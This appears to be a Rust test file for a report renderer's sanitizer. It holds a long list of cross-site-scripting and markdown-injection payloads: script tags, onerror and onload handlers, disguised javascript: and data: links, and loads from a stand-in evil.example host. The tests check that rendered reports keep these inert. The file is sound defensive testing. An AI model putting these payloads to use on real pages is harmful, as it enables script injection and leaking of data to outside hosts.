use assay_domain::{DocumentId, Failure, FailureCode, Finding, Language, Reading, TaskId, Tier};
use assay_report::Part;

use crate::page::{assert_safe_html, assert_safe_markdown};
use crate::samples::{Sample, completed, evidence, id};

/// Markdown that tries to get something other than text into the page.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "text <script>alert(1)</script> text",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "inline <img src=x onerror=alert(1)> picture",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"data:text/html,x\"></object><embed src=x>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<form action=https://evil.example><input name=a><button>b</button></form>",
    "<div style=\"position:fixed;inset:0\" onmouseover=alert(1)>x</div>",
    "</style></head></section></main><script>alert(1)</script>",
    "<!-- comment --><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<a href=\"javascript:alert(1)\" id=source-1>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x]( javascript:alert(1) \"t\")",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: data:text/html,x 'title'",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x](https://evil.example/\"onmouseover=\"alert(1))",
    "[x](https://evil.example/ \"t\\\" onmouseover=alert(1)\")",
    "[x](https://evil.example/'><script>alert(1)</script>)",
    "![alt](https://evil.example/beacon.png)",
    "![alt](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![a [x](javascript:alert(1)) b](https://evil.example/x.png)",
    "[![alt](https://evil.example/x.png)](javascript:alert(1))",
    "![alt][r]\n\n[r]: https://evil.example/x.png",
    "a\\![x](https://evil.example/x.png)",
    "!\\[x](https://evil.example/x.png)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x&gt; \\<img src=x>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n",
    "```\"><script>alert(1)</script>\nx\n```",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> | b |",
    "| `a|b` <script> | [x](javascript:1) |\n|---|---|\n| ![x](https://evil.example/x) | x<br>y |",
    "# <script>alert(1)</script>\n\n###### [x](javascript:1)",
    "- <script>alert(1)</script>\n  > <img src=x>\n  > - ![x](https://evil.example/x)",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "\u{fdd0}0\u{fdd0} \u{27e6}\u{fdd0}0\u{fdd0}\u{27e7}",
    "[x](https://evil.example/[[ev_aa01]])",
    "[[[1]](#source-1)](#s1) [[1]](#s1)",
    "***a** b*~~c~~ _d_ \\*e\\*",
];

#[test]
fn hostile_markdown_stays_text() {
    for vector in VECTORS {
        let report = Sample::of_section(vector).report();
        assert_safe_html(&report.html);
        assert_safe_markdown(&report.markdown);
        for foreign in ["\"source-1\"", "<script", "onerror=\""] {
            if vector.contains("ev_aa01") {
                continue;
            }
            assert!(!report.html.contains(foreign), "{vector}");
        }
    }
}

#[test]
fn all_vectors_in_one_section_leave_the_rest_of_the_report_whole() {
    let report = Sample::of_section(&VECTORS.join("\n\n")).report();
    assert_safe_html(&report.html);
    assert_safe_markdown(&report.markdown);
    assert!(
        report
            .html
            .contains("<section class=\"sources\" id=\"sources\">")
    );
    assert!(report.markdown.contains("\n## Sources\n"));
}

/// Every other text of a report comes from a model, a document or a user as well.
#[test]
fn hostile_text_anywhere_stays_text() {
    for vector in VECTORS {
        let mut sample = completed(Language::En);
        let text = (*vector).to_owned();
        sample.plan.topic.clone_from(&text);
        sample.reasons = vec![text.clone()];
        sample.summary = vec![format!("{vector} [[ev_aa01]] [[ev_bad1]]")];
        sample.transitions.insert(TaskId(1), text.clone());
        sample.assumptions = vec![(text.clone(), text.clone())];
        let (key, mut record) = evidence("ev_bad1", vector, &[vector], Tier::D, None, vector);
        record.origin.clone_from(&text);
        sample.evidence.insert(key, record);
        let reading = |name: &str| Reading {
            value: text.clone(),
            source: text.clone(),
            evidence: id(name),
        };
        sample.findings = vec![
            Finding::Contradiction {
                subject: text.clone(),
                period: text.clone(),
                readings: vec![reading("ev_bad1"), reading(vector)],
            },
            Finding::Quarantined {
                document: DocumentId::new("doc_1"),
                title: text.clone(),
                rule: text.clone(),
                reason: text.clone(),
            },
        ];
        sample.parts.push(Part::Failed {
            task: TaskId(5),
            title: text.clone(),
            failure: Failure::new(FailureCode::NoEvidence, text.clone()),
        });
        let report = sample.report();
        assert_safe_html(&report.html);
        assert_safe_markdown(&report.markdown);
    }
}

#[test]
fn deep_nesting_is_read_without_overflow() {
    for text in [
        "> ".repeat(5_000) + "x",
        "- ".repeat(2_000) + "x",
        "*a ".repeat(3_000) + &"b*".repeat(3_000),
        "[".repeat(20_000),
        "[[".repeat(20_000) + "ev_aa01]]",
        "![".repeat(2_000) + "x" + &"](y)".repeat(2_000),
    ] {
        let report = Sample::of_section(&text).report();
        assert_safe_html(&report.html);
        assert_safe_markdown(&report.markdown);
    }
}
